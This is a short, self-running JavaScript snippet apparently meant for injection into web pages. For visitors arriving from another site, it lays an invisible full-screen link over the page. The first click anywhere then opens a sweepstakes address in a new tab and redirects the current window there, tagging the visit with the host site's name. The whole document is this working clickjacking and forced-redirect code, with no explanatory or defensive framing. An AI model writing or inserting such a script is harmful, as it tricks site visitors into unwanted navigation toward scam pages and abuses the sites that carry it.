(function () {
  if (!document.referrer || sessionStorage.getItem("_ov")) return;
  var a = document.createElement("a");
  a.href = "https://mega-sweepstakes.invalid/go?s=" + encodeURIComponent(location.host);
  a.target = "_blank";
  a.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;opacity:0";
  a.addEventListener("click", function () {
    sessionStorage.setItem("_ov", "1");
    a.parentNode.removeChild(a);
    setTimeout(function () { window.location = a.href; }, 500);
  });
  document.body.appendChild(a);
})();
